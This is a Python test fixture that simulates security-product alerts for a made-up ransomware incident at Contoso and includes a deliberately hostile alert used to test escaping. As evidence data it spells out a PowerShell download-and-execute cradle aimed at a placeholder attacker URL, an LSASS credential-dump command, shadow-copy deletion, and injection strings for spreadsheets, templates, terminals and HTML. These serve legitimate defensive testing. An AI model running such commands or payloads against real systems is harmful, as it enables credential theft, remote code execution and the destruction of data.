# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The alerts of the world under attack: incident 1126093 from mail to encryption, and two beside it.

HOSTILE is what an attacker may call a machine. It must come out of everything as text.
"""

from __future__ import annotations

import datetime as dt
from collections.abc import Mapping

from ..clock import stamp
from .records import Record, alert, file, ip, machine_id, process, registry, url, user

INCIDENT = 1126093
HOSTILE = "=cmd|'/C calc'!A1 {{ lookup('pipe','id') }} \x1b[31m\x1b]0;owned\x07 <img src=x onerror=alert(1)>.contoso.com"
HOSTILE_COMMAND = "powershell.exe -c \"{{ lookup('pipe','id') }}{% raw %}\" \x1b[2J\r\n=HYPERLINK(\"http://203.0.113.77\") </pre><script>"

HIVE, SERVICE = "HKEY_LOCAL_MACHINE", "SYSTEM\\CurrentControlSet\\Services\\WinUpd32"
SYSTEM = "C:\\Windows\\System32"
POWERSHELL = f"{SYSTEM}\\WindowsPowerShell\\v1.0"
EVIL_IP = "203.0.113.77"
EVIL_URL = "http://invoices.contoso-billing.example/8841.ps1"


def alerts(machines: Mapping[str, Record], now: dt.datetime) -> list[Record]:
    first, second, server = (machines[machine_id(key)] for key in ("fin-07", "hr-03", "files-02"))
    return [
        _mail_opened(first, now - dt.timedelta(minutes=58)),
        _passwords_taken(first, now - dt.timedelta(minutes=49)),
        _moved_on(second, now - dt.timedelta(minutes=31)),
        _tool_blocked(second, now - dt.timedelta(minutes=27)),
        _files_encrypted(server, now - dt.timedelta(minutes=9)),
        _hostile(machines[machine_id("hostile")], now - dt.timedelta(minutes=20)),
        _of_yesterday(machines[machine_id("sales-05")], now - dt.timedelta(days=1, minutes=6)),
    ]


def elsewhere(machines: Mapping[str, Record], now: dt.datetime) -> list[Record]:
    """What another product has found, in an incident of its own."""
    at = now - dt.timedelta(minutes=41)
    nowhere = {"machineId": None, "computerDnsName": None, "rbacGroupName": None, "detectorId": None}
    return [
        alert(
            "sn4c6b8e02-0000-4000-8000-00000000a11e", machines[machine_id("fin-07")], created=at, title="Many sign-ins refused from one address",
            incidentId=INCIDENT + 2, severity="Medium", category="CredentialAccess", mitreTechniques=["T1110.003"],
            serviceSource="microsoftSentinel", detectionSource="ScheduledAlerts", relatedUser=_related("lena"), **nowhere,
            evidence=[user("lena", at), ip("198.51.100.200", at)],
        ),
    ]


def _mail_opened(on: Record, at: dt.datetime) -> Record:
    line = f"powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('{EVIL_URL}')\""
    return alert(
        "da638679130511223344_1364969609", on, created=at, title="Suspicious PowerShell download by an Office program",
        incidentId=INCIDENT, severity="High", category="Execution", mitreTechniques=["T1566.001", "T1059.001"],
        relatedUser=_related("lena"), loggedOnUsers=[{"accountName": "lena", "domainName": "CONTOSO"}],
        evidence=[
            user("lena", at),
            file("invoice-8841.docm", "C:\\Users\\lena\\Downloads", at),
            process("powershell.exe", POWERSHELL, line, at, number=8420, parent="WINWORD.EXE"),
            url(EVIL_URL, at),
            ip(EVIL_IP, at),
        ],
    )


def _passwords_taken(on: Record, at: dt.datetime) -> Record:
    line = f"rundll32.exe {SYSTEM}\\comsvcs.dll, MiniDump 712 C:\\ProgramData\\l.bin full"
    return alert(
        "da638679135900112233_-812345678", on, created=at, title="Memory of LSASS read",
        incidentId=INCIDENT, severity="High", category="CredentialAccess", mitreTechniques=["T1003.001"],
        relatedUser=_related("lena"),
        evidence=[
            user("lena", at),
            process("rundll32.exe", SYSTEM, line, at, number=9112, parent="powershell.exe"),
            file("l.bin", "C:\\ProgramData", at),
        ],
    )


def _moved_on(on: Record, at: dt.datetime) -> Record:
    return alert(
        "da638679146677889900_-22019384", on, created=at, title="Service installed from another machine",
        incidentId=INCIDENT, severity="Medium", category="LateralMovement", mitreTechniques=["T1021.002", "T1569.002"],
        relatedUser=_related("svc-backup"),
        evidence=[
            user("svc-backup", at),
            ip("10.20.3.44", at),
            process("winupd32.exe", "C:\\Windows\\Temp", "winupd32.exe -s -p 445", at, number=5512, parent="services.exe"),
            registry(HIVE, SERVICE, at, name="ImagePath", type="ExpandString", value="C:\\Windows\\Temp\\winupd32.exe"),
        ],
    )


def _tool_blocked(on: Record, at: dt.datetime) -> Record:
    return alert(
        "da638679149000776655_771020304", on, created=at, title="Malware 'Winupd' was prevented", incidentId=INCIDENT,
        severity="Medium", status="InProgress", assignedTo="analyst@contoso.com", category="Malware",
        detectionSource="WindowsDefenderAv", threatFamilyName="Winupd", threatName="Trojan:Win32/Winupd.A",
        comments=[
            {"comment": "same file as on fin-07?", "createdBy": "analyst@contoso.com", "createdTime": stamp(at + dt.timedelta(minutes=5))}
        ],
        evidence=[file("winupd32.exe", "C:\\Windows\\Temp", at, status="Blocked")],
    )


def _files_encrypted(on: Record, at: dt.datetime) -> Record:
    line = "winupd32.exe -e D:\\Shares -ext .locked"
    return alert(
        "da638679159911002288_-1400500600", on, created=at, title="Many files renamed in a short time",
        incidentId=INCIDENT, severity="High", category="Ransomware", mitreTechniques=["T1486", "T1490"],
        relatedUser=_related("svc-backup"),
        evidence=[
            user("svc-backup", at),
            process("winupd32.exe", "C:\\Windows\\Temp", line, at, number=6640, parent="services.exe"),
            process("vssadmin.exe", SYSTEM, "vssadmin.exe delete shadows /all /quiet", at, number=6702, parent="winupd32.exe"),
            file("READ_ME.locked.txt", "D:\\Shares", at),
            ip(EVIL_IP, at),
        ],
    )


def _hostile(on: Record, at: dt.datetime) -> Record:
    return alert(
        "da638679152200334455_909090909", on, created=at, incidentId=INCIDENT + 1, severity="Informational",
        title="{{ lookup('pipe','id') }} \x1b[31mred\x1b[0m <script>alert(1)</script> =1+1",
        category="SuspiciousActivity", relatedUser={"userName": "{{ 7 * 7 }}", "domainName": "CONTOSO"},
        evidence=[process("powershell.exe", POWERSHELL, HOSTILE_COMMAND, at, number=4242)],
    )


def _of_yesterday(on: Record, at: dt.datetime) -> Record:
    return alert(
        "da638678270000554433_123454321", on, created=at, title="Connection to a known command server", incidentId=1126001,
        severity="Medium", status="Resolved", category="CommandAndControl", assignedTo="analyst@contoso.com",
        classification="TruePositive", determination="Malware", resolvedTime=stamp(at + dt.timedelta(hours=3)),
        lastUpdateTime=stamp(at + dt.timedelta(hours=3)), mitreTechniques=["T1071.001"],
        evidence=[ip("198.51.100.23", at), url("https://198.51.100.23/a", at)],
    )


def _related(name: str) -> dict[str, str]:
    return {"userName": name, "domainName": "CONTOSO"}
